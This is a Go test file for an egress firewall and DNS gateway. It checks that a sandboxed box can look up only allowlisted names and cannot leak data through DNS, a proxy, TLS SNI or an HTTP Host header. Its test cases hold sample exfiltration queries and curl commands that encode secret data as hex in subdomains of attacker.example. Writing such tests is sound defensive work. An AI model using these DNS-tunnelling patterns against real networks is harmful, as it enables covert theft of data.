package egress

import (
	"slices"
	"testing"
	"time"

	"github.com/miekg/dns"
)

// TestDNSNeverLeavesTheHost is DNS as policy: a box may learn of names it
// is allowed, and a query for any other name, whatever its type and
// however it is asked (the gateway's DNS over UDP and TCP, a direct query
// to the upstream, a name given to the proxy or in a TLS ClientHello or an
// HTTP Host), never reaches the upstream resolver, so DNS cannot carry
// data out. The control: an allowed name is looked up there, so the
// upstream is reachable and counting.
func TestDNSNeverLeavesTheHost(t *testing.T) {
	w := newWorld(t)
	b := w.newBox(t, "s-dns-exfil", "up.test", "*.ok.up.test")
	gw := w.gw.GatewayAddr()

	resp, err := b.query(t, gw, "udp", "data.ok.up.test", dns.TypeA)
	if err != nil || resp.Rcode != dns.RcodeSuccess || len(resp.Answer) != 1 {
		t.Fatalf("control: A data.ok.up.test through the gateway: %v %v", resp, err)
	}
	if got := w.Upstream.Questions(); !slices.Contains(got, "data.ok.up.test A") {
		t.Fatalf("control: the upstream saw %q, want data.ok.up.test A among them", got)
	}
	before := len(w.Upstream.Questions())

	// Data smuggled in names outside the allowlist, some under the
	// upstream's own zone (it would answer them) and some under an
	// allowed name's parent.
	exfil := []struct {
		name string
		typ  uint16
	}{
		{"6b696c6e2d736563726574.attacker.example", dns.TypeA},
		{"6b696c6e.attacker.example", dns.TypeTXT},
		{"6b696c6e.attacker.example", dns.TypeAAAA},
		{"6b696c6e.attacker.example", dns.TypeMX},
		{"secret.up.test", dns.TypeA}, // under the upstream's zone, not allowed
		{"secret.up.test", dns.TypeTXT},
		{"x.secret.ok.up.test.attacker.example", dns.TypeA},
		{"ok.up.test", dns.TypeA}, // *.ok.up.test does not cover ok.up.test itself
		{"2.0.77.10.in-addr.arpa", dns.TypePTR},
	}
	for _, network := range []string{"udp", "tcp"} {
		for _, q := range exfil {
			resp, err := b.query(t, gw, network, q.name, q.typ)
			if err != nil || resp.Rcode != dns.RcodeRefused || len(resp.Answer) != 0 {
				t.Errorf("%s %s %s: %v %v, want REFUSED", network, q.name, dns.TypeToString[q.typ], resp, err)
			}
		}
		// The box's firewall keeps it from asking the upstream itself.
		if resp, err := b.query(t, w.Upstream.Addr.Addr(), network, "direct.attacker.example", dns.TypeA); err == nil {
			t.Errorf("%s: a query straight to the upstream got an answer: %v", network, resp)
		}
	}
	// Other record types of an allowed name are answered empty without
	// asking anyone: the box gets nothing through them either.
	if resp, err := b.query(t, gw, "udp", "up.test", dns.TypeTXT); err != nil || resp.Rcode != dns.RcodeSuccess || len(resp.Answer) != 0 {
		t.Errorf("TXT up.test: %v %v, want an empty answer", resp, err)
	}
	// Names that reach the gateway other than by DNS: the proxy, a
	// transparent TLS ClientHello and a transparent HTTP Host.
	proxy := []string{"HTTPS_PROXY=http://" + gw.String() + ":3128", "HTTP_PROXY=http://" + gw.String() + ":3128"}
	b.curl(t, proxy, "https://proxied-6b696c6e.attacker.example/")
	b.curl(t, proxy, "http://plain-6b696c6e.attacker.example/")
	b.curl(t, nil, "--resolve", "sni-6b696c6e.attacker.example:443:"+w.WebAddr.String(), "https://sni-6b696c6e.attacker.example/")
	b.curl(t, nil, "--resolve", "host-6b696c6e.attacker.example:80:"+w.WebAddr.String(), "http://host-6b696c6e.attacker.example/")

	time.Sleep(100 * time.Millisecond) // a stray query in flight would land by now
	if leaked := w.Upstream.Questions()[before:]; len(leaked) != 0 {
		t.Errorf("the upstream resolver was asked %q: names outside the allowlist left the host", leaked)
	}
	refusalsContain(t, b.att, "DNS lookup of secret.up.test refused by policy", "DNS lookup of 6b696c6e.attacker.example refused")
}
